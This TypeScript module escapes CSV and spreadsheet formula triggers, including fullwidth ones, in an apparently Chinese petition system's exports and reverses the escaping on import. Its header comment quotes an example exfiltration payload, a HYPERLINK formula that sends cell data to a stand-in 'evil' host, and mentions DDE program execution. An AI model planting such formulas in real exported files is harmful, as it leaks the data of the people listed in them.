// Formula injection (CSV injection, issue 11 finding 13): a spreadsheet program runs a cell whose text
// starts with `=`, `+`, `-` or `@` as a formula, and tab or CR before them can hide it, so a case titled
// `=HYPERLINK("http://evil/?"&A1,"详情")` would turn an exported file into a way to send petitioners' data
// out, or (DDE) to run a program on the clerk's PC. OWASP's remedy: start such a cell with a single
// quote, which makes it text. Every text cell that leaves through an export or a rejects file passes
// through escapeFormula, and every cell read from an import through unescapeFormula, so that
// import → export → import is lossless.
//
// The rule (T = the trigger characters below):
//   escape(s)   = "'" + s  when s starts with a character of T,
//                           or with a quote followed by a character of T or by another quote;
//               = s        otherwise.
//   unescape(e) = e without its first character when e starts with a quote followed by a character of
//                 T or by another quote; e otherwise.
// unescape(escape(s)) = s for every string s: escaping adds a quote exactly when unescape would remove
// one (or s starts with a trigger, and then the added quote is followed by that trigger). So a title
// that really is `'=x` is written `''=x` and read back as `'=x`, and an escaped cell never starts with a
// trigger. A quote before anything else (`'abc`, `'`) is left alone both ways: neither side touches it.
//
// T also holds the fullwidth ＝ ＋ － ＠ (U+FF1D, U+FF0B, U+FF0D, U+FF20): a Chinese or Japanese input method
// types them at the start of a cell, and WPS and Excel in East Asian locales have been reported to turn
// them into formulas; a Chinese title rarely starts with one, and one more quote there costs nothing.
// Cells of numeric columns (人数, the day counts) are numbers, never formulas, and are not escaped.

const QUOTE = "'";
const TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);

/** Whether unescapeFormula drops the first character of `text`. */
function escaped(text: string): boolean {
  return text[0] === QUOTE && text.length > 1 && (TRIGGERS.has(text[1]!) || text[1] === QUOTE);
}

/** The cell text to write for `text`: never starts with a formula trigger. */
export function escapeFormula(text: string): string {
  return TRIGGERS.has(text[0] ?? '') || escaped(text) ? QUOTE + text : text;
}

/** The text a cell written by escapeFormula stood for. */
export function unescapeFormula(text: string): string {
  return escaped(text) ? text.slice(1) : text;
}
